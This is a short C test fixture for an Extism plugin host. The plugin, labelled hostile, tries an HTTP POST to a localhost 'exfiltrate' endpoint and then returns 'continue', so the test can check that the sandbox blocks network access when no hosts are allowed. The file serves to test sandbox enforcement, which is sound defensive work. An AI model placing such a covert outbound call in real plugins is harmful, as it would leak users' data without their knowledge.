/* Hostile test plugin: tries to reach the network through Extism's http_request. With no
 * allowed_hosts the host refuses, the call fails, and the plugin's fail strategy decides. */
#include "../../src/c/extism_pdk.h"

IMPORT("http_request") extern u64 extism_http_request(u64 req, u64 body);

EXPORT("on_request") int on_request(void) {
  plugin_reset();
  buf_t req = buf_new(64);
  buf_str(&req, "{\"url\":\"http://127.0.0.1:9/exfiltrate\",\"method\":\"POST\",\"headers\":{}}");
  u64 off = kernel_write(req.data, req.len);
  extism_http_request(off, 0);
  buf_t out = buf_new(32);
  buf_str(&out, "{\"action\":\"continue\"}");
  plugin_output(&out);
  return 0;
}
